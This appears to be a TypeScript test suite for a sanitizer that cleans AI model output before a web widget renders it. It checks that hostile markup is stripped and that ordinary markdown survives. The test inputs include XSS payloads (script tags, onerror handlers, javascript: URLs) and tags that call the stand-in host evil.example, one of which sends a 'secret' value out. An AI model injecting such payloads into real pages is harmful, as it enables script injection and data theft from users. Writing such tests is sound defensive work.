import { expect } from '@open-wc/testing';
import { sanitizeToFragment } from '../../../src/render/sanitize.js';

const html = (input: string) => {
  const box = document.createElement('div');
  box.append(sanitizeToFragment(input));
  return box.innerHTML;
};

describe('the sanitizer for model output', () => {
  it('removes scripts, event handlers and javascript: URLs', () => {
    expect(html('<script>alert(1)</script><p onclick="x()">hi</p>')).to.equal('<p>hi</p>');
    expect(html('<a href="javascript:alert(1)">x</a>')).to.not.contain('javascript');
    expect(html('<img src=x onerror="alert(1)">')).to.not.contain('onerror');
    expect(html('<svg><script>alert(1)</script></svg>')).to.equal('');
  });

  it('removes forms, frames and media that load on their own', () => {
    for (const hostile of [
      '<form action="/steal"><input name=p><button>Go</button></form>',
      '<iframe src="https://evil.example"></iframe>',
      '<object data="x.swf"></object><embed src="x">',
      '<video autoplay muted src="https://evil.example/?q=secret"></video>',
      '<audio autoplay src="https://evil.example/a.mp3"></audio>',
      '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<style>*{display:none}</style>',
    ]) {
      expect(html(hostile), hostile).to.not.match(/<(form|input|button|iframe|object|embed|video|audio|link|meta|style)\b/);
    }
    expect(html('<table background="https://evil.example/t.png"><tr><td>1</td></tr></table>')).to.not.contain('evil');
  });

  it('strips what would let output pose as the widget: class, id, role, style, aria', () => {
    const out = html('<div class="error" id="x" role="alert" aria-live="assertive" style="position:fixed"><strong>Session expired</strong></div>');
    expect(out).to.equal('<strong>Session expired</strong>');
  });

  it('keeps markdown output: tables, code with its language, links and lazy images', () => {
    expect(html('<pre><code class="language-ts">x</code></pre>')).to.equal('<pre><code class="language-ts">x</code></pre>');
    expect(html('<table><thead><tr><th align="right">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>')).to.contain('<th align="right">a</th>');
    expect(html('<ol start="3"><li>c</li></ol>')).to.equal('<ol start="3"><li>c</li></ol>');
    const link = html('<a href="https://example.com">x</a>');
    expect(link).to.contain('target="_blank"').and.to.contain('rel="noopener noreferrer nofollow"');
    const image = html('<img src="https://example.com/a.png" alt="a">');
    expect(image).to.contain('loading="lazy"').and.to.contain('referrerpolicy="no-referrer"');
    expect(image).to.contain('alt="a"');
    expect(html('<p><img src="/chart.png"> and <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" title=" Sales "></p>'), 'no alt: the title, else an empty one').to.equal(
      '<p><img src="/chart.png" loading="lazy" referrerpolicy="no-referrer" alt=""> and <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" title="Sales" loading="lazy" referrerpolicy="no-referrer" alt="Sales"></p>',
    );
    expect(html('<details><summary>More</summary>Body</details>')).to.equal('<details><summary>More</summary>Body</details>');
  });
});
